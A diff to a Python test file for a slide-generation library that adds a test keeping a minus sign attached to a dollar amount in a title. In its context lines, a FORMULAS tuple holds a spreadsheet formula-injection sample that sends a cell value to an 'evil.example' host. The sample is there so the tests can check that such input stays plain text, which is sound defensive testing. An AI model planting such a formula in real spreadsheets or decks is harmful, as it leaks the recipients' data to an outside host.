@@ -127,6 +127,12 @@ def test_figures_side_by_side_have_one_size() -> None:
 FORMULAS = ('=HYPERLINK("http://evil.example/?"&A2,"x")', "@SUM(1)", "+1+1", "http://x.example")
 
 
+def test_a_minus_is_not_left_behind_by_its_amount() -> None:
+    (slide,) = drawn(Slide(anchor="t", layout=Layout.TEXT, title="A loss of -$120K, run-rate -2"))
+
+    assert slide.shapes.title.text == "A loss of \u2011$120K, run-rate -2"
+
+
 def test_formulas_and_addresses_in_titles_stay_text() -> None:
     series = Series(name="=1+1", values=(1.0, 2.0, 3.0, 4.0), labels=FORMULAS)
     blob = pptx(
